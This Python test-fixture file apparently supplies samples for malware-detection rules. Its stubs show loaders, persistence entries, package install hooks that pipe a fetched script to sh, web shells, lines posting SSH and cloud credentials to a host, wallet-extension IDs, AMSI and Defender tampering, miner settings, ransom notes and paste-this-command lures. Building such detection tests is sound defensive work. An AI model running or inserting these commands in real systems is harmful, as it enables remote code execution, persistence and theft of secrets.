"""Samples for rules about scripts, packages, server pages, documents, shortcuts, names and programs."""

from __future__ import annotations

import struct

from tests.rules.samples import LNK, ONE, PS, URL, Sample, pdf, program, text, wide

TELEGRAM = "https://api.telegram" + ".org/bot"
RUN_KEY = "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"
PHP = "<?php "
SHELL = "#!/bin/sh\n"
ARGUMENTS = LNK[:20] + struct.pack("<I", 0x20) + LNK[24:]


def batch(content: str) -> Sample:
    return text("run.bat", content)


def powershell(content: str) -> Sample:
    return text("run.ps1", content)


def shell(content: str) -> Sample:
    return text("run.sh", SHELL + content)


def registry(key: str, value: str) -> Sample:
    return text("change.reg", f"Windows Registry Editor Version 5.00\r\n\r\n[{key}]\r\n{value}\r\n")


def named(name: str) -> Sample:
    return Sample(name, b"x")


FILES: dict[str, Sample] = {
    # Loaders
    "script_splits_names": text("run.js", "new ActiveXObject('WSc' + 'ript.Sh' + 'ell');"),
    "script_runs_answer": text("run.vbs", "Execute(http.responseText)"),
    "script_runs_registry": text("run.vbs", 'c = shell.RegRead("HKCU\\Software\\x")\r\nExecute(c)'),
    "script_looks_for_laboratory": text(
        "run.vbs", 'Set q = w.ExecQuery("Select * from Win32_BIOS") \' VMware VirtualBox\r\nSet s = "WScript.Shell"'
    ),
    "script_waits_long": batch(f"ping -n 120 127.0.0.1\r\ncurl {URL}"),
    "batch_fetch_and_start": batch(f"curl -o %TEMP%\\a.exe {URL}.exe\r\nstart %TEMP%\\a.exe"),
    "batch_looks_like_other_text": Sample("run.bat", b"\xff\xfe&cls\r\necho off"),
    "batch_unpacks_itself": batch(f'findstr /b "::x" "%~f0" > a.txt\r\n{PS} -c x'),
    "batch_starts_itself_unseen": batch('mshta vbscript:CreateObject("WScript.Shell").Run("%~f0 h",0)(window.close)'),
    "powershell_xor": powershell("$b[$i] = [byte[]]$x -bxor 7; iex $s"),
    "powershell_patches_scanner": powershell("$a = 'AmsiScan' + 'Buffer' # AmsiScan" + "Buffer\nVirtualProtect($a)"),
    "powershell_machine_code": powershell("VirtualAlloc(0); [Marshal]::Copy($b, 0, $p, 9); CreateThread(0)"),
    "powershell_letter_codes": powershell("$x = " + " + ".join(f"[char]{100 + i}" for i in range(20))),
    "powershell_broken_words": powershell('& ("{1}{0}{2}" -f "a","b","c"); & ("{2}{0}{1}" -f 1); & ("{0}{2}{1}" -f 2)'),
    "script_reads_picture": powershell("$s = '<<BASE64_" + "START>>'; $e = '<<BASE64_" + "END>>'"),
    "script_logs_keys": powershell("[Win]::GetAsyncKeyState($k) | Out-File keys.txt"),
    "script_sends_screen": powershell(f"$g.CopyFromScreen(0, 0); $w.UploadFile('{URL}', 'a.png')"),
    "script_raises_rights": batch("reg add HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command\r\nfodhelper"),
    "console_file_script": text(
        "view.msc", "<?xml version='1.0'?><MMC_ConsoleFile>apds.dll/redirect.html?target=java" + "script:x"
    ),
    "style_sheet_runs_script": text(
        "a.xsl", '<stylesheet version="1.0"><ms:script>new ActiveXObject("x")</ms:script></stylesheet>'
    ),
    "scriptlet_runs_command": text(
        "a.sct",
        '<scriptlet><registration progid="x"><script>new X("WScript.Shell")</script></registration></scriptlet>',
    ),
    # What stays
    "registry_file_start": registry(RUN_KEY, '"x"="mshta x"'),
    "registry_file_disarms": registry("HKLM\\SOFTWARE\\Policies\\x", '"DisableAntiSpyware"=dword:00000001'),
    "registry_file_replaces_program": registry(
        "HKLM\\SOFTWARE\\x\\Image File Execution Options\\sethc.exe", '"Debugger"="x.exe"'
    ),
    "setup_file_runs_command": text(
        "a.inf", "[Version]\r\nSignature=$x$\r\n[DefaultInstall]\r\nRunPreSetupCommands=x\r\n[x]\r\ntaskkill /im y\r\n"
    ),
    "script_starts_at_sign_in": batch(f"reg add {RUN_KEY} /v x /d %APPDATA%\\x.vbs"),
    "script_plans_task": batch(f'schtasks /create /sc minute /tr "{PS} -w hidden x" /tn y'),
    "script_copies_to_start": batch('copy "%~f0" "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup"'),
    "icon_from_network": text("a.scf", "[Shell]\r\nCommand=2\r\nIconFile=\\\\files.example\\share\\a.ico\r\n"),
    # Packages and servers
    "package_hook_fetches": text("package.json", f'{{"name": "x", "scripts": {{"preinstall": "curl {URL} | sh"}}}}'),
    "package_setup_runs": text(
        "setup.py",
        "class X(install):\n  def run(s): os.system(urllib.request.urlopen(u).read())\nsetup(cmdclass={'install': X})",
    ),
    "script_pushed_out_of_sight": text("a.py", "import os" + " " * 200 + ";exec(x)\n"),
    "python_path_file_runs": text("a.pth", "import os, subprocess; subprocess.call(x)\n"),
    "script_takes_keys": text(
        "a.py", "for f in ['.aws/credentials', '.ssh/id_rsa', '.npmrc']: requests.post(u, open(f))"
    ),
    "script_takes_wallets": text(
        "a.py",
        "['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa', 'hnfanknocfeofbddgcijnmhnfnkdnaad']",
    ),
    "script_takes_chat_session": text("a.py", "p = 'tdata'; k = 'key_datas'; requests.post(u, files=z)"),
    "script_takes_radio_passwords": batch(f"netsh wlan show profile x key=clear > a\r\ncurl -F f=@a {URL}"),
    "shell_runs_from_number": shell("curl -s http://203.0.113.7/a.sh | bash\n"),
    "shell_plans_fetch": shell(f"(crontab -l; echo '* * * * * curl -s {URL} | sh') | crontab -\n"),
    "shell_wipes_traces": shell(f"unset HISTFILE\ncurl {URL} -o a\n"),
    "shell_preloads": shell("echo /tmp/a.so > /etc/ld.so.preload\n"),
    "mac_lifts_quarantine": shell(f"curl -o a {URL}\nxattr -c a\nchmod +x a\n./a\n"),
    "miner_settings": text("config.json", '{"donate-level": 1, "pools": [{"url": "pool.example:3333", "user": "x"}]}'),
    "page_miner": text(
        "a.html", "<html><script src='coin" + "hive.min.js'></script><script>m.start();</script></html>"
    ),
    "web_shell_variable": text("a.php", PHP + "$f = 'x'; $f($_POST['c']);"),
    "web_shell_upload": text(
        "a.php", PHP + "echo php_uname(); move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);"
    ),
    "web_shell_known": text("a.php", PHP + "$default_action = 'Files" + "Man'; system($c);"),
    "web_shell_net": text("a.aspx", '<% new ProcessStartInfo("cmd.exe", Request["c"]); %>'),
    "web_shell_java": text("a.jsp", '<% defineClass(Base64.decode(request.getParameter("c"))); %>'),
    "server_runs_pictures": text(".htaccess", "AddType application/x-httpd-php .jpg\n"),
    # Documents
    "pdf_asks_for_click": pdf(f"/Contents (This document is protected) /A << /S /URI /URI ({URL}) >>"),
    "pdf_link_to_program": pdf(f"/A << /S /URI /URI ({URL}.exe) >>"),
    "document_asks_for_macros": text(
        "word/document.xml",
        '<?xml version="1.0"?><w:document>This document is protected. Click Enable Content to read this document',
    ),
    "notebook_asks_for_click": Sample("a.one", ONE + wide("Double click to view file")),
    "rtf_broken_head": text("a.rtf", r"{\rtX1{\object\objdata 0105}}"),
    "java_start_file": text(
        "a.jnlp", '<jnlp codebase="https://e.example/"><security><all-permissions/></security></jnlp>'
    ),
    "remote_desktop_file": text(
        "a.rdp", "full address:s:desk.e.example\r\ndrivestoredirect:s:*\r\nremoteapplicationmode:i:1\r\n"
    ),
    # Shortcuts
    "shortcut_document_icon": Sample("a.lnk", ARGUMENTS + wide("C:\\Windows\\System32\\cmd.exe\0AcroRd32.exe")),
    "shortcut_carries_payload": Sample("a.lnk", LNK + wide("cmd.exe") + bytes(110 * 1024)),
    "shortcut_by_variable": Sample("a.lnk", LNK + wide("%comspec% /c start x")),
    # Names
    "name_blank_letters": named("report.pdf" + "\u2800" * 12 + ".lnk"),
    "name_invisible_letters": named("rep\u200bort.exe"),
    "name_class_extension": named("report.{00021401-0000-0000-c000-000000000046}"),
    "name_archive_bomb": named("zip-bomb.zip"),
    "name_business_script": named("invoice_0815.vhd"),
    "name_business_page": named("Remittance_Advice.html"),
    "remote_tool_name": named("AnyDesk_setup.exe"),
    "remote_tool_set_up": Sample("a.exe", program(b"ScreenConnect.ClientService ?e=Access&y=Guest&h=r.example&p=8041")),
    "remote_tool_hidden": text(
        "client32.ini", "[Client]\r\nsilent=1\r\nSysTray=0\r\n[HTTP]\r\nGatewayAddress=g.example:443"
    ),
    # Programs
    "program_autoit": Sample("a.exe", program(b"AU3!" + b"EA06")),
    "script_autoit_compiled": Sample("a.a3x", bytes.fromhex("a3484bbe986c4aa9994c530a86d6487d") + b"AU3!" + b"EA06"),
    "program_nsis": Sample("a.exe", program(bytes.fromhex("efbeadde") + b"NullsoftInst")),
    "program_python_inside": Sample("a.exe", program(b"MEI" + bytes.fromhex("0c0b0a0b0e"))),
    "program_miner": Sample("a.exe", program(b"stratum+tcp://pool.example:3333 --donate-level")),
    "program_scanner_off": Sample("a.exe", program(b"Disable" + b"RealtimeMonitoring\0Set-Mp" + b"Preference")),
    "android_spies": Sample(
        "AndroidManifest.xml",
        wide(
            " ".join(
                f"android.permission.{name}"
                for name in (
                    "READ_SMS",
                    "RECEIVE_SMS",
                    "SEND_SMS",
                    "BIND_ACCESSIBILITY_SERVICE",
                    "SYSTEM_ALERT_WINDOW",
                    "RECEIVE_BOOT_COMPLETED",
                )
            )
        ),
    ),
    # Extortion
    "ransom_leak_note": text(
        "README.txt",
        "We have downloaded the data of your company. It will be published on our leak site unless you negotiate. "
        "Open it with the Tor browser.",
    ),
    "ransom_page": text(
        "README.html", "<html>Your files have been encrypted. Pay in bitcoin. <script>setInterval(f, 1)</script></html>"
    ),
    # Documents in disguise
    "rtf_remote_template_disguised": text(
        "letter.rtf", r"{\rtf1\ansi {\*\template \u-65432?\u-65420?\u-65420?p://files.example/letter.dotm}Dear all}"
    ),
    "pdf_carries_web_archive": text(
        "order.doc",
        "%PDF-1.7\n%comment\nMIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n--b\n"
        "Content-Location: file:///C:/order.htm\n\nOrder\n--b--\n",
    ),
    "pdf_sends_form_at_opening": pdf("/OpenAction << /S /SubmitForm /F (http://files.example/take.php) /Flags 4 >>"),
    "slide_starts_program": text(
        "ppt/slides/slide1.xml",
        '<?xml version="1.0"?><p:sld><a:hlinkHover r:id="rId2" action="ppaction://program"/></p:sld>',
    ),
    "slide_click_starts_program": text(
        "ppt/slides/slide1.xml",
        '<?xml version="1.0"?><p:sld><a:hlinkClick r:id="rId2" action="ppaction://program"/></p:sld>',
    ),
    "paste_command_encoded_text": text(
        "steps.txt", f"Press Win+R, paste this line and press Enter:\n\n{PS} -w hidden -enc {'SQBFAFgA' * 9}\n"
    ),
    "paste_command_text": text("steps.txt", f"Press Win + R, paste this and press Enter:\n\nmshta {URL}\n"),
    "ribbon_runs_remote_macro": text(
        "customUI/customUI.xml", '<?xml version="1.0"?><customUI onLoad="https://files.example/menu.dotm!start"/>'
    ),
    "control_that_runs_programs": text(
        "word/activeX/activeX1.xml",
        '<?xml version="1.0"?><ax:ocx ax:classid="{72C24DD5-D70A-438B-8A42-98424B88AFB8}" xmlns:ax="x"/>',
    ),
    "password_prompt_mac_used": text(
        "update.applescript",
        'set p to text returned of (display dialog "Password" default answer "" with hidden answer)\n'
        f'do shell script "echo " & p & " | sudo -S true; curl -s {URL} | bash"\n',
    ),
    "fetched_either_way_and_run": shell(f"(curl -fsSL {URL} || wget -qO- {URL}) | bash\n"),
}
